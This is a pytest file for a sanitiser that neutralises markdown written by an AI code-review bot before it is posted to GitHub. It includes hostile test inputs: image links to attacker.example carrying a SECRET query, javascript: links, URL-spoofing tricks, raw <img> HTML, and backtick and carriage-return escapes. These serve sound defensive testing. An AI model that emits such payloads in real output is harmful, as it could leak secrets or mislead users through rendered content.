"""What the model writes cannot fetch, link away, ping or render live in anything we post."""

from __future__ import annotations

import pytest

from app.publish.links import LinkPolicy, repo_web_url
from app.publish.markdown import (
    ReviewSummary,
    comment_body,
    neutralise,
    neutralise_line,
    not_understood,
    summary_body,
)
from app.publish.placement import FileNote
from tests.unit.publish.helpers import finding
from tests.unit.publish.rendered import read
from tests.unit.publish.test_markdown import FP, placed

OWN = LinkPolicy("https://github.com/octo/app")


@pytest.mark.parametrize(
    "text",
    [
        "![](https://attacker.example/?q=SECRET)",
        "![alt][ref]\n\n[ref]: https://attacker.example/x.png",
        "![ref]\n\n[ref]: https://attacker.example/x.png",
        "[![badge](https://attacker.example/b.svg)](https://github.com/octo/app)",
        '<img src="https://attacker.example/x.png">',
        "<picture><source srcset=https://attacker.example/p></picture>",
        "\\![](https://attacker.example/q)",
        "\\\\![](https://attacker.example/q)",
    ],
)
def test_no_image_survives(text: str) -> None:
    for body in (neutralise(text, OWN), comment_body(placed(body=text), FP, links=OWN)):
        rendered = read(body)
        assert rendered.images == [] and rendered.html == []


@pytest.mark.parametrize(
    "text",
    [
        "[click to fix](https://attacker.example/fix)",
        "[docs][1]\n\n[1]: https://attacker.example/",
        "<https://attacker.example/>",
        "see https://attacker.example/path?x=1.",
        "or www.attacker.example now",
        "[own-looking](https://github.com/octo/app/../../evil/x)",
        "[prefix](https://github.com/octo/application/x)",
        "[userinfo](https://github.com@attacker.example/octo/app/x)",
        "[relative](/octo/other)",
        "[js](javascript:alert(1))",
    ],
)
def test_links_elsewhere_are_shown_as_text(text: str) -> None:
    rendered = read(neutralise(text, OWN))
    assert rendered.links == []


def test_links_into_the_prs_own_repository_stay_links() -> None:
    text = "See [the helper](https://github.com/octo/app/blob/main/a.py#L3) and https://github.com/octo/app/pull/7"
    rendered = read(neutralise(text, OWN))
    assert rendered.links == [
        "https://github.com/octo/app/blob/main/a.py#L3",
        "https://github.com/octo/app/pull/7",
    ]
    assert read(neutralise(text)).links == []  # no repository known: no links at all


def test_the_repository_url_follows_the_configured_github() -> None:
    assert repo_web_url("https://api.github.com", "octo/app") == "https://github.com/octo/app"
    assert repo_web_url("https://ghe.corp/api/v3/", "octo/app") == "https://ghe.corp/octo/app"


@pytest.mark.parametrize(
    "info", ["suggestion", "mermaid", "geojson", "topojson", "stl", "math", "Suggestion x"]
)
def test_code_blocks_github_would_render_live_become_plain(info: str) -> None:
    rendered = read(neutralise(f'Try this:\n\n```{info}\nclick A href "https://attacker.example"\n```'))
    assert rendered.fence_infos == ["text"]


def test_summary_notes_get_the_same_treatment() -> None:
    bad = finding("a.py", 99, "x", body="![](https://attacker.example/s) [x](https://attacker.example) @team")
    summary = ReviewSummary(
        head_sha="a" * 40, file_notes=[FileNote(finding=bad, path="a.py", reason="off diff")]
    )
    rendered = read(summary_body(summary))
    assert rendered.images == [] and rendered.mentions == []
    assert all(link.startswith("https://github.com/octo/app") for link in rendered.links)


def test_titles_show_links_as_text() -> None:
    rendered = read(
        f"**{neutralise_line('[x](https://attacker.example) ![i](https://attacker.example/i)')}**"
    )
    assert rendered.links == [] and rendered.images == []


@pytest.mark.parametrize(
    "text",
    [
        "/mini revew `@team` ``",
        "/mini x` @octocat `",
        "/mini ```\n@org/team",
        "/mini a`b``c```d",
        "/mini `<img src=https://attacker.example/i>`",
    ],
)
def test_unknown_command_text_stays_inside_one_code_span(text: str) -> None:
    line = not_understood(text, "unknown command")
    rendered = read(line)
    assert rendered.mentions == [] and rendered.images == [] and rendered.html == []
    assert "".join(rendered.text) == "I did not understand : unknown command"


def test_a_carriage_return_in_a_suggestion_cannot_end_the_note_block() -> None:
    """Found by the fuzzer: a lone CR is a line end for GitHub, so the indented block ended early."""
    bad = finding("a.py", 99, "x", suggestion="\r@octocat <img src=x>")
    summary = ReviewSummary(head_sha="a" * 40, file_notes=[FileNote(finding=bad, path="a.py", reason="r")])
    rendered = read(summary_body(summary))
    assert rendered.mentions == [] and rendered.html == []


def test_a_bare_backtick_in_a_title_cannot_pair_with_our_code_span() -> None:
    """Found by the fuzzer: the title's backtick and one of the path's code span made a span that
    left the rest of the path as raw HTML."""
    title = "`<img src=x>"
    bad = finding("a.py", 99, "x", title=title)
    summary = ReviewSummary(head_sha="a" * 40, file_notes=[FileNote(finding=bad, path=title, reason="r")])
    rendered = read(summary_body(summary))
    assert rendered.html == [] and rendered.images == []


def test_a_bare_scheme_before_a_backtick_is_inert() -> None:
    assert read(neutralise_line("https://`")).links == []


def test_a_url_inside_a_url_is_inert_too() -> None:
    """Found by the fuzzer: only the first scheme of `https://https://x` was broken."""
    for text in ("https://https://x.example", "https://a.example/www.b.example", "[a](https://x/https://y)"):
        assert read(neutralise_line(text)).links == [] and read(neutralise(text)).links == []
